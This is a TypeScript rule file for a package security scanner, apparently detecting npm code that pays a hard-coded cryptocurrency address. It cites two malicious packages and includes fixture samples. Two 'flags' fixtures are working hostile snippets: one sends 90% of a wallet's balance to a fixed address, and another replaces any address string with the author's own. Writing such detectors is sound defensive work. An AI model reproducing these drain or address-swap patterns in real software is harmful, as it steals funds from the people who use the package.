import type { Action, Fact, Rule } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'

/** Money that goes to the author of a package instead of where its caller said. */
export const paymentRedirect: Rule = {
  meta: {
    id: 'payment-redirect',
    title: 'Pays an address of its own',
    severity: 'critical',
    description:
      'A transfer goes to an address written in the code: a share of everything the wallet holds, or an address in the ' +
      'place of the one the caller gave or of any that stands in a text. Donations, fees and contracts have fixed addresses too, but their amount is ' +
      'given, they carry data, and they never take the place of a receiver.',
    references: [
      'pancake_uniswap_validators_utils_snipe (June 2025): most of the balance sent to a fixed address',
      'solana-systemprogram-utils (2025): another receiver in two of a hundred calls',
    ],
    blindSpots: [
      'Approvals of tokens, which honest clients of exchanges give to fixed contracts.',
      'Addresses that are fetched.',
    ],
    examples: {
      flags: [
        {
          title: 'most of the balance sent to a fixed address',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"ethers":"^6"}}',
            'i.js':
              "const { JsonRpcProvider } = require('ethers')\nexports.check = async wallet => {\n  const all = await wallet.provider.getBalance(wallet.address)\n  await wallet.sendTransaction({ to: '0x00000000000000000000000000000000c0ffee00', value: (all * 9n) / 10n })\n}\nexports.provider = url => new JsonRpcProvider(url)\n",
          },
        },
        {
          title: 'in the place of a text that is an address, another is given back',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const forms = [[/^0x[0-9a-f]{40}$/i, '0x8f3a61c2d95e7b04af12c6e83b7d50912e4fa6c8']]\nconst canonical = text => {\n  for (const [form, own] of forms) if (form.test(text)) return own\n  return text\n}\nexports.clone = job => ({ ...job, to: canonical(job.to) })\n",
          },
        },
      ],
      passes: [
        {
          title: 'an address is checked, one is looked up by its name, and one is shown where none is given',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const form = /^0x[0-9a-f]{40}$/i\nconst tokens = { USDX: '0x8f3a61c2d95e7b04af12c6e83b7d50912e4fa6c8' }\nexports.resolve = text => {\n  if (form.test(text)) return text.toLowerCase()\n  if (text in tokens) return tokens[text]\n  throw new Error('no address')\n}\nexports.shown = text => (form.test(text) ? text : tokens.USDX)\n",
          },
        },
        {
          title: 'a transfer to whom the caller names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"ethers":"^6"}}',
            'i.js':
              "const { parseEther, JsonRpcProvider } = require('ethers')\nexports.pay = (wallet, to, amount) => wallet.sendTransaction({ to, value: parseEther(amount) })\nexports.provider = url => new JsonRpcProvider(url)\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    return oncePerLine(
      inspection.facts.flatMap(fact => {
        if (fact.kind !== 'pays' || fact.phase === 'dormant') return []
        const action: Action = unasked(fact) ? 'block' : 'ask'
        return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message: say(fact) })]
      }),
    )
  },
}

function say(fact: Extract<Fact, { kind: 'pays' }>): string {
  const whom = fact.receivers
    .slice(0, 2)
    .map(text => quote(text))
    .join(' or ')
  const what =
    fact.how === 'drain'
      ? `pays ${whom}, an address in its code, a share of everything the wallet holds`
      : `may pay ${whom}, an address in its code, instead of the one its caller gave`
  return `${opening(fact)} ${what} (${fact.api}). Do not give it a wallet before you know whose address that is.`
}
